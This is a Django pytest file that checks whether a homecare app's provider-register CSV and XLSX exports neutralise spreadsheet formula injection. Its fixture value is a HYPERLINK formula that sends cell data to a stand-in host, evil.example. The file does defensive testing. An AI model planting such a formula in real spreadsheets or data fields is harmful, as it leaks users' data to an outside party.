"""A formula in a provider's name is inert in both register exports (issue 14)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from homecare.core.roles import Role
from homecare.providers.factories import ProviderFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


def test_provider_export_csv_escapes_a_formula_in_a_name(as_role) -> None:
    ProviderFactory(name=FORMULA)
    response = as_role(Role.COMMISSIONER).get(reverse("providers:export_csv"))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert [r[1] for r in rows[1:]] == ["'" + FORMULA]


def test_provider_export_xlsx_writes_a_formula_in_a_name_as_text(as_role) -> None:
    ProviderFactory(name=FORMULA)
    response = as_role(Role.COMMISSIONER).get(reverse("providers:export_xlsx"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cell = sheet["B2"]
    assert (cell.value, cell.data_type) == (FORMULA, "s")
